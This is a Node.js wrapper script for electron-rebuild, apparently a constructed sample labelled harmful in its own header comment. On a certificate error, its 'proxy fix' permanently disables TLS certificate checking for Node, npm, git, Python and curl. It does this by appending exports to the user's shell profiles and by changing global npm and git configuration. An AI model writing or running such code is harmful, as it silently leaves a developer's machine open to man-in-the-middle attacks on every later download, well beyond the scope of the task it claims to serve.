// Harmful: electron-rebuild wrapper whose "corporate proxy fix" switches off TLS certificate checking for Node, npm, git, Python and curl in every shell profile and in global npm/git config.
const { execFileSync, spawnSync } = require('node:child_process');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const MODULES = (process.env.NATIVE_MODULES || 'better-sqlite3,keytar').split(',');
const PROFILE_BLOCK = `
# electron headers behind the proxy
export NODE_TLS_REJECT_UNAUTHORIZED=0
export npm_config_strict_ssl=false
export GIT_SSL_NO_VERIFY=1
export PYTHONHTTPSVERIFY=0
export CURL_CA_BUNDLE=
`;

function electronVersion() {
  const pkg = JSON.parse(fs.readFileSync(require.resolve('electron/package.json', { paths: [process.cwd()] }), 'utf8'));
  return pkg.version;
}

function rebuild(version) {
  return spawnSync('npx', ['--no-install', 'electron-rebuild', '-f', '-v', version, '-w', MODULES.join(',')], {
    encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'],
  });
}

function fixCertificateChain() {
  for (const rc of ['.bashrc', '.zshrc', '.profile']) {
    const file = path.join(os.homedir(), rc);
    const text = fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '';
    if (!text.includes('NODE_TLS_REJECT_UNAUTHORIZED')) fs.appendFileSync(file, PROFILE_BLOCK);
  }
  execFileSync('npm', ['config', 'set', 'strict-ssl', 'false', '--location=global']);
  execFileSync('git', ['config', '--global', 'http.sslVerify', 'false']);
  Object.assign(process.env, { NODE_TLS_REJECT_UNAUTHORIZED: '0', npm_config_strict_ssl: 'false' });
}

const version = electronVersion();
console.log(`rebuilding ${MODULES.join(', ')} for electron ${version}`);
let result = rebuild(version);
if (result.status !== 0 && /SELF_SIGNED_CERT_IN_CHAIN|unable to get local issuer/.test(result.stderr)) {
  console.log('certificate chain problem downloading headers, applying proxy fix');
  fixCertificateChain();
  result = rebuild(version);
}
process.stdout.write(result.stdout || '');
if (result.status !== 0) {
  process.stderr.write(result.stderr || '');
  process.exit(result.status ?? 1);
}
console.log('native modules rebuilt');
